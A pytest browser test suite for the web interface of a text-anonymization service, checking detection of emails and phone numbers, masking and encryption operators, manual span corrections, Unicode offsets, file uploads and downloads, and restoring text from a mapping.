"""The page in a headless Chromium: what a person sees and does. Each test also checks that nothing left the server's
origin, that the content security policy refused nothing, and that no error came up."""

import json
import random
import re
from io import BytesIO
from zipfile import ZipFile

import pytest
from thinc.api import Config

pytest.importorskip("fastapi", reason="the extra serve is not installed")
pytest.importorskip("uvicorn", reason="the extra serve is not installed")

from functools import partial

from browser import Tab, Watch, running_browser, running_server
from serve_pipelines import make_small

from spacy_anonym.labels import COLORS
from spacy_anonym.serve.app import make_app
from spacy_anonym.serve.pipelines import Pipeline, Pipelines
from spacy_anonym.serve.settings import ServeSettings

pytestmark = pytest.mark.slow  # processes of its own

TEXT = "Mail ada@example.org or bo@example.org, ring 212-555-0147.\nThe zebra is at ada@example.org."


@pytest.fixture(scope="module")
def pipelines():
    made = {"en": partial(make_small, "en"), "he": partial(make_small, "he", None, ["common", "il"])}
    pipelines = Pipelines([Pipeline(name, make) for name, make in made.items()])
    yield pipelines
    pipelines.close()


@pytest.fixture(scope="module")
def origin(pipelines):
    with running_server(make_app(ServeSettings(), pipelines)) as origin:
        yield origin


@pytest.fixture(scope="module")
def browser():
    with running_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def new_context(browser):
    """Makes contexts, each of its kind once: they take longer than a tab."""
    made = {}

    def make(**options):
        options.setdefault("viewport", {"width": 1280, "height": 800})
        kind = json.dumps(options, sort_keys=True)
        if kind not in made:
            made[kind] = browser.new_context(
                permissions=["clipboard-read", "clipboard-write"], reduced_motion="reduce", **options
            )
            made[kind].set_default_timeout(60_000)
        return made[kind]

    yield make
    for context in made.values():
        context.close()


@pytest.fixture
def new_tab(new_context, origin):
    """Makes tabs; looks at all that they did when the test is over."""
    tabs = []

    def make(**options):
        page = new_context(**options).new_page()
        tabs.append(Tab(page, Watch(page, origin), origin))
        return tabs[-1]

    yield make
    for tab in tabs:
        tab.page.close()
        tab.watch.check()


@pytest.fixture
def tab(new_tab):
    return new_tab().open()


def test_a_pasted_text_shows_its_findings_beside_the_new_text(tab):
    page = tab.page
    page.evaluate("(text) => navigator.clipboard.writeText(text)", TEXT)
    page.click("#original")
    page.keyboard.press("Control+V")
    page.keyboard.press("Control+Enter")
    tab.done()
    assert tab.found() == [
        ["ada@example.org", "EMAIL_ADDRESS"],
        ["bo@example.org", "EMAIL_ADDRESS"],
        ["212-555-0147", "PHONE_NUMBER"],
        ["ada@example.org", "EMAIL_ADDRESS"],
    ]
    assert (
        tab.new_text()
        == "Mail <EMAIL_ADDRESS> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe zebra is at <EMAIL_ADDRESS>."
    )
    assert page.locator("#labels tr").all_inner_texts()[0].split()[:3] == ["All", "labels", "4"]
    counts = page.locator("#labels tr:not(.all)").evaluate_all(
        "(rows) => rows.map((row) => ['.name', '.count'].map((part) => row.querySelector(part).textContent))"
    )
    assert counts == [["EMAIL_ADDRESS", "3"], ["PHONE_NUMBER", "1"]]
    page.click("#copy")
    page.wait_for_selector("#status:has-text('copied')")
    assert page.evaluate("navigator.clipboard.readText()") == tab.new_text()


HARD = "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001d4d0da e\u0301 שָׁלוֹם \U0001f600ring 212-555-0147\U0001f600, \U0001f1ee\U0001f1f1 bo@example.org \U0001f600\r\nn\u0303 \U00020000 ada@example.org"


def test_findings_stand_exactly_where_the_service_says_in_any_script(tab):
    tab.run(HARD)
    assert [value for value, _ in tab.found()] == ["212-555-0147", "bo@example.org", "ada@example.org"]
    assert tab.new_text().count("<") == 3
    # By hand, behind characters of two units: the service gets code points.
    tab.select("שָׁלוֹם")
    tab.page.select_option("#fix select", "PERSON")
    tab.page.click("#fix [name=set]")
    tab.done()
    body = tab.watch.sent("/v1/anonymize")[-1]
    assert body["detect"] is False
    values = [(body["text"][span["start"] : span["end"]], span["label"]) for span in body["spans"]]
    assert values == [
        ("שָׁלוֹם", "PERSON"),
        ("212-555-0147", "PHONE_NUMBER"),
        ("bo@example.org", "EMAIL_ADDRESS"),
        ("ada@example.org", "EMAIL_ADDRESS"),
    ]
    assert ["שָׁלוֹם", "PERSON"] in tab.found() and "<PERSON>" in tab.new_text()


def texts_of_all_kinds(count=120):
    rng = random.Random(7)
    alphabet = [
        "a",
        "\u0301",
        "ש",
        "\u05b8",
        "\U0001f600",
        "\U00020000",
        "\u200d",
        "\n",
        "\r\n",
        "\r",
        " ",
        "\ud83d",
        "\ude00",
        "\x00",
    ]
    return ["".join(rng.choice(alphabet) for _ in range(rng.randrange(14))) for _ in range(count)]


def test_offsets_are_converted_as_python_counts(tab):
    texts = [text for text in texts_of_all_kinds() if not re.search("[\ud800-\udfff]", text)]
    both = tab.evaluate(
        """(m, texts) => texts.map((text) => { const o = new m.Offsets(text); const n = [...text].length;
        const units = Array.from({ length: n + 1 }, (_, i) => o.toUnits(i)); return [units, units.map((at) => o.toPoints(at))]; })""",
        texts,
    )
    for text, (units, points) in zip(texts, both):
        assert units == [len(text[:i].encode("utf-16-le")) // 2 for i in range(len(text) + 1)]
        assert points == list(range(len(text) + 1))


def test_lines_and_pieces_hold_the_whole_text_and_each_span(tab):
    rng = random.Random(3)
    cases = []
    for text in texts_of_all_kinds():
        length = len(text.encode("utf-16-le", "surrogatepass")) // 2
        cuts = sorted(rng.sample(range(length + 1), min(length + 1, 4)))
        cases.append(
            [[ord(unit) for unit in _units(text)], [{"start": a, "end": b} for a, b in zip(cuts[::2], cuts[1::2])]]
        )
    done = tab.evaluate(
        """(m, cases) => cases.map(([units, spans]) => { const text = String.fromCharCode(...units);
        return m.piecesOf(text, spans).map((line) => ({ ...line, pieces: line.pieces.map((p) => [p.start, p.end, p.span]) })); })""",
        cases,
    )
    for (units, spans), lines in zip(cases, done):
        held = [list(range(start, end)) for line in lines for start, end, _ in line["pieces"]]
        flat = [at for part in held for at in part]
        ends = {at for at, unit in enumerate(units) if unit == 10 or (unit == 13 and units[at + 1 : at + 2] == [10])}
        assert flat == [at for at in range(len(units)) if at not in ends]
        for number, span in enumerate(spans):
            marked = [
                at
                for line in lines
                for start, end, which in line["pieces"]
                if which == number
                for at in range(start, end)
            ]
            assert marked == [at for at in range(span["start"], span["end"]) if at not in ends]


def _units(text):
    data = text.encode("utf-16-le", "surrogatepass")
    return [chr(int.from_bytes(data[at : at + 2], "little")) for at in range(0, len(data), 2)]


def test_corrections_move_with_the_text_and_never_overlap(tab):
    changes = [
        {"kind": "add", "start": 0, "end": 3, "label": "A"},
        {"kind": "remove", "start": 10, "end": 12, "label": "B"},
    ]
    moved = tab.evaluate("(m, c) => m.rebased(c, 'abc def ghi jk', 'abc def XX ghi jk')", changes)
    assert [(each["start"], each["end"]) for each in moved] == [(0, 3), (13, 15)]
    gone = tab.evaluate("(m, c) => m.rebased(c, 'abc def ghi jk', 'aXc def ghi jk')", changes)
    assert [(each["start"], each["end"]) for each in gone] == [(10, 12)]
    found = [{"start": 2, "end": 5, "label": "B"}, {"start": 8, "end": 9, "label": "B"}]
    left = tab.evaluate("(m, f, c) => m.corrected(f, c)", found, changes[:1])
    assert [(each["start"], each["end"], each["label"]) for each in left] == [(0, 3, "A"), (8, 9, "B")]
    others = tab.evaluate("(m) => m.othersLike('Al Albert (Al) Al\\u0301 al', { start: 0, end: 2 })")
    assert others == [{"start": 11, "end": 13}]
    assert tab.evaluate("(m) => [0, 1, 2, 3, 4].map((at) => m.fromShown('a\\r\\nb\\r\\n', at))") == [0, 1, 3, 4, 6]
    # Half of a character, and white space at the ends.
    assert tab.evaluate("(m) => m.trimmed(' \\u{1f600}x ', 0, 2)") == {"start": 1, "end": 3}
    assert tab.evaluate("(m) => m.trimmed('a  b', 1, 3)") is None


def test_details_and_partners_come_on_hover_and_on_focus(tab):
    page = tab.page
    tab.run(TEXT)
    for side, other in (("#before", "#after"), ("#after", "#before")):
        page.hover(f"{side} mark >> nth=2")
        told = page.inner_text("#detail")
        assert (
            "PHONE_NUMBER" in told
            and "Telephone or fax number" in told
            and "regex.phone_grouped" in told
            and re.search(r"0\.\d\d|1\.00", told)
        )
        assert page.locator(f"{other} mark.hot").count() == 1
        assert page.locator(f"{other} mark").nth(2).evaluate("(mark) => mark.classList.contains('hot')")
        page.mouse.move(1, 1)
        page.wait_for_selector("#detail", state="hidden")
        assert page.locator("mark.hot").count() == 0
    page.locator("#before mark").first.focus()
    page.keyboard.press("ArrowRight")
    assert "EMAIL_ADDRESS" in page.inner_text("#detail")
    assert page.evaluate("document.activeElement.getAttribute('aria-describedby')") == "detail"
    assert page.locator("#after mark").nth(1).evaluate("(mark) => mark.classList.contains('hot')")
    page.keyboard.press("Escape")
    assert page.is_hidden("#detail")
    # A click on another takes the focus there, also when nothing came of it.
    page.click("#before mark >> nth=2")
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.textContent") == "212-555-0147"


def operator_select(label):
    return f"#labels select[aria-label='Operator of {label}']"


def test_operators_and_their_parameters_write_the_new_text(tab):
    page = tab.page
    tab.run(TEXT)
    page.select_option(operator_select("All labels"), "redact")
    tab.done()
    assert tab.new_text() == "Mail  or , ring .\nThe zebra is at ."
    page.select_option(operator_select("PHONE_NUMBER"), "mask")
    tab.done()
    assert tab.new_text() == "Mail  or , ring ************.\nThe zebra is at ."
    page.click("#labels button[aria-label='Parameters of PHONE_NUMBER']")
    fields = page.locator("#labels tr.params label.param")
    fields.filter(has_text="char").locator("input").fill("#")
    fields.filter(has_text="count").locator("input").fill("4")
    page.keyboard.press("Tab")
    tab.done()
    assert tab.new_text() == "Mail  or , ring 212-555-####.\nThe zebra is at ."
    assert tab.watch.sent("/v1/anonymize")[-1]["operators"]["PHONE_NUMBER"] == {"type": "mask", "char": "#", "count": 4}
    # What was removed can still be seen and pointed at.
    page.hover("#after mark.empty >> nth=0")
    assert page.locator("#before mark").first.evaluate("(mark) => mark.classList.contains('hot')")
    page.click("#undo")
    tab.done()
    assert tab.new_text() == "Mail  or , ring ############.\nThe zebra is at ."


def test_an_operator_waits_for_what_it_needs(tab):
    page = tab.page
    tab.run(TEXT)
    asked = len(tab.watch.sent("/v1/anonymize"))
    page.select_option(operator_select("PHONE_NUMBER"), "encrypt")
    field = page.locator("#labels tr.params input[type=password]")
    assert field.evaluate("(field) => field === document.activeElement && field.required")
    assert len(tab.watch.sent("/v1/anonymize")) == asked
    field.fill("0123456789abcdef0123456789abcdef")
    page.keyboard.press("Tab")
    tab.done()
    assert tab.watch.sent("/v1/anonymize")[-1]["operators"] == {
        "PHONE_NUMBER": {"type": "encrypt", "key": "0123456789abcdef0123456789abcdef"}
    }
    assert "212-555-0147" not in tab.new_text() and "<PHONE_NUMBER>" not in tab.new_text()
    page.click("#undo")
    tab.done()
    assert "<PHONE_NUMBER>" in tab.new_text() and page.locator("#labels tr.params").count() == 0


def test_a_wrong_parameter_is_told_with_its_code(tab):
    page = tab.page
    tab.watch.expected = ["400", "422"]
    tab.run(TEXT)
    page.select_option(operator_select("PHONE_NUMBER"), "mask")
    tab.done()
    page.click("#labels button[aria-label='Parameters of PHONE_NUMBER']")
    page.locator("#labels tr.params label.param").filter(has_text="char").locator("input").fill("##")
    page.keyboard.press("Tab")
    tab.done()
    assert re.fullmatch(r"SA\d{3}", page.inner_text("#problem-code"))
    assert page.get_attribute("#problem", "role") == "alert" and page.is_visible("#problem")
    assert page.inner_text("#problem-text") and "212" not in page.inner_text("#problem-text")
    # The new text of the operator before is not taken for this one's.
    assert tab.new_text() == "" and "ada@" not in page.inner_text("#after") and page.is_disabled("#copy")
    page.click("#undo")
    tab.done()
    assert page.is_hidden("#problem") and "ring ****" in tab.new_text() and page.is_enabled("#copy")


def test_no_old_text_is_shown_after_an_error(tab):
    page = tab.page
    tab.watch.expected = ["500", "413", "ERR_FAILED"]
    tab.run(TEXT)
    answers = [
        lambda route: route.fulfill(status=500, json={"error": "[SA901] It failed.", "code": "SA901"}),
        lambda route: route.fulfill(status=413, json={"error": "[SA501] It is larger than 2097152 bytes.", "code": "SA501"}),
        lambda route: route.fulfill(status=500, body="<html>a proxy's page</html>"),
        lambda route: route.abort(),
    ]  # fmt: skip
    told = []
    for answer in answers:
        page.route("**/v1/anonymize", answer)
        page.evaluate(DROP, ["other.txt", "The lion is at bo@example.org.", "text/plain"])
        page.wait_for_selector("#problem:not([hidden])")
        told.append(page.inner_text("#problem-text"))
        assert "lion" in page.input_value("#original") and page.is_hidden("#before")
        assert tab.new_text() == "" and "zebra" not in page.inner_text("main")
        assert all(page.is_disabled(button) for button in ("#copy", "#save-text", "#save-items"))
        page.unroute("**/v1/anonymize")
        tab.run(TEXT)
        assert "zebra" in tab.new_text() and page.is_hidden("#problem")
        page.click("#edit")
        # While another text is typed, nobody copies the new text of this one.
        assert page.is_disabled("#copy")
    assert told[:2] == ["It failed.", "It is larger than 2 MB."] and told[3] == "The server does not answer."


def test_a_label_is_searched_by_name_and_meaning_and_stays_in_the_dialog(new_tab):
    for width in (1440, 390):
        tab = new_tab(viewport={"width": width, "height": 800}).open()
        page = tab.page
        tab.run(TEXT)
        page.click("#before mark >> nth=2")
        options = "[...document.querySelector('#fix select').options].map((each) => each.value)"
        assert len(page.evaluate(options)) > 150
        inside = """() => { const form = document.querySelector('#fix').getBoundingClientRect();
        return [...document.querySelectorAll('#fix *')].map((each) => each.getBoundingClientRect()).every((box) => !box.width ||
          (box.left >= form.left && box.right <= form.right)) && form.left >= 0 && form.right <= innerWidth
          && form.top >= 0 && form.bottom <= innerHeight; }"""
        assert page.evaluate(inside)
        page.fill("#fix [name=search]", "birth")
        assert page.evaluate(options)[0] == "BIRTH_DATE" and page.input_value("#fix select") == "BIRTH_DATE"
        page.fill("#fix [name=search]", "social security")
        assert len(page.evaluate(options)) > 3
        page.keyboard.press("ArrowDown")
        assert page.input_value("#fix select") == page.evaluate(options)[1] and page.evaluate(inside)
        page.fill("#fix [name=search]", "no such label <b>")
        assert page.evaluate(options) == [] and page.is_disabled("#fix [name=set]")
        page.keyboard.press("Enter")
        assert page.is_visible("#fix")
        page.keyboard.press("Escape")
        assert tab.found()[2][1] == "PHONE_NUMBER"


def test_labels_of_a_text_have_colours_that_differ(tab):
    page = tab.page
    tab.run(TEXT)
    colors = tab.evaluate(
        """async (m, labels) => { const { Colors } = await import('/page/view.js'); const colors = new Colors();
        return labels.map((label) => colors.of(label, '#ffa8b6')); }""",
        [f"LABEL_{number}" for number in range(21)],
    )
    assert len(set(colors)) == 13
    rgb = {color: [int(color[at : at + 2], 16) for at in (1, 3, 5)] for color in {*colors, *COLORS.values()}}
    near = [
        (a, b)
        for a in colors[1:13]
        for b in rgb
        if a != b and sum(abs(x - y) for x, y in zip(rgb[a], rgb[b])) < 55
    ]  # fmt: skip
    assert near == []
    rows = page.locator("#labels .dot").evaluate_all("(dots) => dots.map((dot) => dot.style.getPropertyValue('--c'))")
    assert len(set(rows)) == len(rows) == 2


def test_spans_are_added_relabelled_and_removed_by_hand_and_undone(tab):
    page = tab.page
    tab.run(TEXT)
    tab.select("zebra ")
    assert page.inner_text("#fix .quote") == "zebra"
    page.select_option("#fix select", "PERSON")
    page.click("#fix [name=set]")
    tab.done()
    assert ["zebra", "PERSON"] in tab.found() and "The <PERSON> is" in tab.new_text()
    page.hover("#after mark:has-text('PERSON')")
    assert "by hand" in page.inner_text("#detail")
    # Another label for one mail address, and for its twin.
    page.click("#before mark >> nth=0")
    page.check("#fix [name=all]")
    page.select_option("#fix select", "USERNAME")
    page.click("#fix [name=set]")
    tab.done()
    assert [label for value, label in tab.found() if value == "ada@example.org"] == ["USERNAME", "USERNAME"]
    assert tab.new_text() == "Mail <USERNAME> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe <PERSON> is at <USERNAME>."
    page.click("#after mark >> nth=2")
    page.click("#fix [name=remove]")
    tab.done()
    assert "212-555-0147" in tab.new_text() and len(tab.found()) == 4
    for _ in range(3):
        page.click("#undo")
        tab.done()
    assert (
        tab.new_text()
        == "Mail <EMAIL_ADDRESS> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe zebra is at <EMAIL_ADDRESS>."
    )
    assert page.is_disabled("#undo")
    page.click("#redo")
    tab.done()
    assert "The <PERSON> is" in tab.new_text()


def test_corrections_outlive_an_edit_and_another_threshold(tab):
    page = tab.page
    tab.run(TEXT)
    tab.select("zebra")
    page.select_option("#fix select", "PERSON")
    page.click("#fix [name=set]")
    tab.done()
    page.click("#edit")
    page.fill("#original", "Hello! " + TEXT)
    page.click("#run")
    tab.done()
    assert ["zebra", "PERSON"] in tab.found() and tab.new_text().startswith("Hello! Mail <EMAIL")
    page.locator("#threshold").focus()
    page.keyboard.press("End")
    tab.done()
    assert tab.watch.sent("/v1/anonymize")[-2]["threshold"] == 1
    assert [label for _, label in tab.found()] == ["PERSON"]


def test_a_policy_for_overlaps_is_chosen_and_sent(tab):
    page = tab.page
    tab.run(TEXT)
    assert "policy" not in tab.watch.sent("/v1/anonymize")[-1]
    offered = page.eval_on_selector_all("#policy option", "options => options.map((each) => each.value)")
    assert {"", "merge", "longest", "presidio"} <= set(offered) and not {"vote", "union", "priority"} & set(offered)
    before = tab.found()
    for name in offered[1:]:
        page.select_option("#policy", name)
        tab.done()
        assert tab.watch.sent("/v1/anonymize")[-1]["policy"] == name
    page.select_option("#policy", "")
    tab.done()
    assert "policy" not in tab.watch.sent("/v1/anonymize")[-1] and tab.found() == before


def test_settings_do_not_take_what_is_being_typed(tab):
    page = tab.page
    tab.run(TEXT)
    page.click("#edit")
    page.fill("#original", "ring 212-555-0199")
    page.select_option(operator_select("PHONE_NUMBER"), "redact")
    page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
    page.click("#undo")
    assert page.input_value("#original") == "ring 212-555-0199" and page.is_visible("#original")
    page.click("#run")
    tab.done()
    assert tab.new_text() == "ring " and tab.found() == [["212-555-0199", "PHONE_NUMBER"]]


def test_a_paragraph_is_selected_by_three_clicks_and_escape_lets_go(tab):
    page = tab.page
    tab.run("The zebra sleeps.\nThe zebra wakes.")
    for line, value in ((0, "The zebra sleeps."), (1, "The zebra wakes.")):
        page.click(f"#before .line >> nth={line}", click_count=3, position={"x": 20, "y": 12})
        page.wait_for_selector("#fix:not([hidden])")
        assert page.inner_text("#fix .quote") == value
        page.keyboard.press("Escape")
        assert page.is_hidden("#fix")
        page.click("#theme")
        assert page.is_hidden("#fix")
    assert tab.found() == []


def test_a_label_that_is_switched_off_stays_in_the_text(tab):
    page = tab.page
    tab.run(TEXT)
    page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
    tab.done()
    assert tab.new_text() == TEXT.replace("212-555-0147", "<PHONE_NUMBER>")
    assert page.locator("#before mark.off").count() == 3
    page.hover("#before mark.off >> nth=0")
    assert "stays in the text" in page.inner_text("#detail")
    page.check("#labels input[aria-label='Replace EMAIL_ADDRESS']")
    tab.done()
    assert "ada@" not in tab.new_text()


def test_the_downloads_hold_the_new_text_and_the_items(tab):
    text = "\U0001f600 ring 212-555-0147, mail ada@example.org"
    tab.run(text)
    tab.page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
    tab.done()
    saved = tab.download("#save-text")
    assert saved.suggested_filename == "anonymized.txt"
    with open(saved.path(), encoding="utf8", newline="") as file:
        new = file.read()
    assert new == "\U0001f600 ring <PHONE_NUMBER>, mail ada@example.org"
    saved = tab.download("#save-items")
    assert saved.suggested_filename == "anonymized_items.json"
    with open(saved.path(), encoding="utf8") as file:
        raw = file.read()
    data = json.loads(raw)
    assert (data["pipeline"], data["language"]) == ("en", "en")
    [item] = data["items"]
    assert new[item["start"] : item["end"]] == "<PHONE_NUMBER>"
    assert text[item["source_start"] : item["source_end"]] == "212-555-0147"
    # Found by the pipeline: its rule and score, though it was sent back as a given span.
    assert item["rule"] == "regex.phone_grouped" and 0 < item["score"] < 1
    assert "212" not in raw and "ada" not in raw


DROP = """([name, content, type]) => { const data = new DataTransfer(); data.items.add(new File([content], name, { type }));
return ['dragenter', 'dragover', 'drop'].map((kind) => document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true }))); }"""


def test_a_dropped_text_is_shown_with_its_line_ends(tab):
    page = tab.page
    # False: the browser does not do what it does with a file, which is to go to it.
    _, over, drop = page.evaluate(DROP, ["note.txt", "Ring 212-555-0147\r\ntwo ada@example.org\r\n", "text/plain"])
    assert (over, drop) == (False, False)
    page.wait_for_selector("#before mark")
    tab.done()
    assert page.is_hidden("#drop")
    assert page.input_value("#original") == "Ring 212-555-0147\ntwo ada@example.org\n"
    with open(tab.download("#save-text").path(), encoding="utf8", newline="") as file:
        assert file.read() == "Ring <PHONE_NUMBER>\r\ntwo <EMAIL_ADDRESS>\r\n"
    # A field of the browser has other line ends: an edit keeps the file's.
    page.click("#edit")
    page.keyboard.insert_text("So: ")
    page.click("#run")
    tab.done()
    with open(tab.download("#save-text").path(), encoding="utf8", newline="") as file:
        assert file.read() == "So: Ring <PHONE_NUMBER>\r\ntwo <EMAIL_ADDRESS>\r\n"
    # A span behind line ends, selected in the field that has others.
    page.click("#by-keyboard")
    page.evaluate("document.querySelector('#select').setSelectionRange(22, 25)")
    page.keyboard.press("x")
    page.keyboard.press("Enter")
    assert page.inner_text("#fix .quote") == "two"
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")
    assert page.is_visible("#before")


def test_a_file_of_another_format_comes_back_as_a_download(tab):
    page = tab.page
    page.select_option("#pipeline", "en")
    page.evaluate(DROP, ["people.csv", "name,mail\nx,ada@example.org\n", "text/csv"])
    page.wait_for_selector("#file-list button")
    assert "1 found" in page.inner_text("#file-list")
    saved = tab.download("#file-list button")
    assert saved.suggested_filename == "people_anonymized.csv"
    with open(saved.path(), encoding="utf8") as file:
        assert file.read() == "name,mail\nx,<EMAIL_ADDRESS>\n"
    tab.watch.expected = ["40", "41", "42"]
    # What was decided about labels holds for files too.
    tab.run(TEXT)
    page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
    page.select_option(operator_select("All labels"), "redact")
    tab.done()
    page.evaluate(DROP, ["people.csv", "name,mail\nring 212-555-0147,ada@example.org\n", "text/csv"])
    page.wait_for_selector("#file-list li:nth-child(2)")
    with open(tab.download("#file-list li:first-child button").path(), encoding="utf8") as file:
        assert file.read() == "name,mail\nring ,ada@example.org\n"
    page.evaluate(DROP, ["broken.docx", "this is no archive", ""])
    page.wait_for_selector("#file-list .bad")
    told = page.inner_text("#file-list .bad")
    assert re.fullmatch(r"The file .+ SA\d{3}", told) and "*" not in told


def test_a_finding_is_explained(tab):
    page = tab.page
    tab.run("\U0001f600 Ring 212-555-0147, mail ada@example.org, the zebra.")
    page.click("#before mark >> nth=1")
    page.click("#fix [name=why]")
    page.wait_for_selector("#sheet[open]")
    told = page.inner_text("#sheet")
    assert "Rule regex.email" in told and "kept" in told and "PHONE_NUMBER" not in told and page.is_hidden("#fix")
    page.click("#sheet-close")
    # What was found for no good reason is kept from now on, in every text.
    page.click("#before mark >> nth=1")
    page.click("#fix [name=allow]")
    tab.done()
    assert page.input_value("#allow") == "ada@example.org" and page.is_visible("#allow")
    assert tab.found() == [["212-555-0147", "PHONE_NUMBER"]] and "ada@example.org" in tab.new_text()
    page.click("#undo")
    tab.done()
    assert page.input_value("#allow") == "" and len(tab.found()) == 2
    tab.select("zebra")
    assert page.is_hidden("#fix [name=why]") and page.is_hidden("#fix [name=allow]")
    page.click("#fix [name=set]")
    tab.done()
    page.click("#before mark >> nth=2")
    page.click("#fix [name=why]")
    page.wait_for_selector("#sheet:has-text('by hand')")


def test_words_are_kept_and_replaced_as_asked(tab):
    page = tab.page
    text = "Mail ada@example.org or bo@example.org (a+b). Also Al met Al-Noor, דנה לדנה, A.C. and AXC; C-17, c-9."
    tab.run(text)
    page.click("#words summary")
    page.fill("#allow", "ADA@example.org\n bo@example.org ")
    page.fill("#deny", "Al\n\n(a+b)\nדנה\nA.C.\n/c-\\d+/")
    page.keyboard.press("Tab")
    tab.done()
    found = [value for value, _ in tab.found()]
    # Case counts for what is kept, not for what goes.
    assert found == ["ada@example.org", "(a+b)", "Al", "Al", "דנה", "דנה", "A.C.", "C-17", "c-9"]
    page.fill("#allow", "/ada.*/")
    page.keyboard.press("Tab")
    tab.done()
    assert tab.watch.sent("/v1/anonymize")[-1]["allow_list_match"] == "regex"
    values = [value for value, _ in tab.found()]
    assert "ada@example.org" not in values and "bo@example.org" in values
    for _ in range(3):
        page.click("#undo")
        tab.done()
    assert page.input_value("#deny") == "" and [value for value, _ in tab.found()] == [
        "ada@example.org",
        "bo@example.org",
    ]


def test_words_are_taken_while_their_field_has_the_focus(tab):
    page = tab.page
    tab.run(TEXT)
    page.click("#words summary")
    page.fill("#deny", "zebra")
    page.keyboard.press("Control+Enter")
    tab.done()
    assert page.input_value("#deny") == "zebra" and "zebra" in [value for value, _ in tab.found()]


def test_settings_are_copied_as_what_does_the_same(tab, capsys):
    page = tab.page
    tab.run(TEXT)
    page.select_option(operator_select("PHONE_NUMBER"), "encrypt")
    page.fill("#labels tr.params input[type=password]", "0123456789abcdef0123456789abcdef")
    page.keyboard.press("Tab")
    tab.done()
    page.select_option(operator_select("EMAIL_ADDRESS"), "mask")
    tab.done()
    page.click("#words summary")
    page.fill("#deny", 'zebra\'s "x"')
    page.keyboard.press("Tab")
    tab.done()
    page.click("#copy-as")
    made = {}
    for name in ("curl", "Python", "config"):
        page.select_option("#sheet-name", name)
        made[name] = page.inner_text("#sheet pre")
        assert "01234" not in made[name] and "zebra is at" not in made[name]
    body = json.loads(made["curl"].split("<<'JSON'\n")[1].rsplit("JSON", 1)[0])
    assert body["operators"]["EMAIL_ADDRESS"] == {"type": "mask"} and body["pipeline"] == "en"
    script = (
        made["Python"]
        .replace("Your text", "ada@example.org")
        .replace("YOUR-SECRET", "0123456789abcdef0123456789abcdef")
    )
    exec(compile(script, "copied", "exec"), {})
    assert capsys.readouterr().out == "***************\n"
    sections = "[components]\n[components.anonymizer]\n[components.anonymizer.operators]\n"
    config = Config().from_str(sections + made["config"], interpolate=False)
    assert config["components"]["anonymizer"]["operators"]["EMAIL_ADDRESS"] == {
        "@anonym_operators": "spacy_anonym.mask.v1"
    }


def test_a_text_is_restored_by_its_mapping(tab):
    page = tab.page
    page.check("#mapping")
    tab.run("\U0001f600 Mail ada@example.org.")
    new = tab.new_text()
    assert "ada@" not in new
    with open(tab.download("#save-mapping").path(), encoding="utf8") as file:
        assert list(json.load(file).values()) == ["ada@example.org"]
    page.click("#tab-restore")
    assert page.is_hidden("#anonymize-view") and "ada@" in page.input_value("#mapping-text")
    page.fill("#restore-text", f"\U0001f600 Hi, {new}")
    page.click("#restore-run")
    page.wait_for_selector("#status:has-text('1 value restored')")
    assert page.inner_text("#restored").strip() == "\U0001f600 Hi, \U0001f600 Mail ada@example.org."
    assert page.inner_text("#restored mark") == "ada@example.org"
    page.click("#restored-copy")
    page.wait_for_selector("#status:has-text('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == "\U0001f600 Hi, \U0001f600 Mail ada@example.org."
    # Another text has its own mapping.
    page.click("#tab-anonymize")
    page.click("#edit")
    tab.run("Mail bo@example.org.")
    page.click("#tab-restore")
    assert "bo@" in page.input_value("#mapping-text") and "ada@" not in page.input_value("#mapping-text")
    page.click("#tab-anonymize")
    new = tab.new_text()
    page.click("#tab-restore")
    # What fails leaves no old text.
    page.fill("#mapping-text", "no JSON")
    page.click("#restore-run")
    page.wait_for_selector("#status:has-text('not valid JSON')")
    assert "ada@" not in page.inner_text("#restored")
    tab.watch.expected = ["422"]
    page.fill("#mapping-text", "[1]")
    page.click("#restore-run")
    page.wait_for_selector("#problem:not([hidden])")
    page.click("#tab-anonymize")
    assert page.is_visible("#before") and tab.new_text() == new


def test_findings_below_a_score_are_accepted_or_rejected(tab):
    page = tab.page
    tab.run(TEXT)
    before = tab.found()
    page.fill("#below input", "1.0")
    page.click("#below [name=reject]")
    tab.done()
    left = tab.found()
    assert len(left) < len(before) and "removed" in page.inner_text("#status")
    page.click("#undo")
    tab.done()
    page.click("#below [name=accept]")
    tab.done()
    assert tab.found() == before
    # They stay, whatever the threshold is.
    page.locator("#threshold").focus()
    page.keyboard.press("End")
    tab.done()
    assert tab.found() == before
    page.click("#below [name=reject]")
    assert "none below" in page.inner_text("#status") or tab.found() == before


def test_an_empty_page_explains_itself_and_has_examples_by_language(tab):
    page = tab.page
    assert "Press Anonymize" in page.inner_text("#after")
    names = page.locator("#example option").all_inner_texts()
    assert names == ["Example", "English", "עברית"]
    page.select_option("#pipeline", "en")
    for code, name in (("he", "he"), ("en", "en")):
        if page.is_hidden("#example"):
            page.click("#edit")
        page.select_option("#example", code)
        page.wait_for_selector("#before:not([hidden])")
        tab.done()
        assert f"Pipeline: {name}" in page.inner_text("#status") and len(tab.found()) > 3


MANY = """(files) => { const data = new DataTransfer(); for (const [name, content] of files) data.items.add(new File([content], name));
document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true })); }"""


def test_files_have_options_and_come_back_as_one_archive(tab):
    page = tab.page
    page.select_option("#pipeline", "en")
    table = "id,mail\nada@example.org,bo@example.org\n"
    files = [
        ["דוח.csv", table],
        ["Dup.csv", table],
        ["dup.csv", table],
        ["dup.tsv", "a\tbo@example.org\n"],
        ["bad.docx", "x"],
    ]
    page.evaluate(MANY, files)
    page.wait_for_selector("#status:has-text('5 of 5 files done.')")
    assert page.is_hidden("#files progress") and page.locator("#file-list .bad").count() == 1
    with ZipFile(tab.download("#zip").path()) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names == ["דוח_anonymized.csv", "Dup_anonymized.csv", "dup_anonymized_2.csv", "dup_anonymized.tsv"]
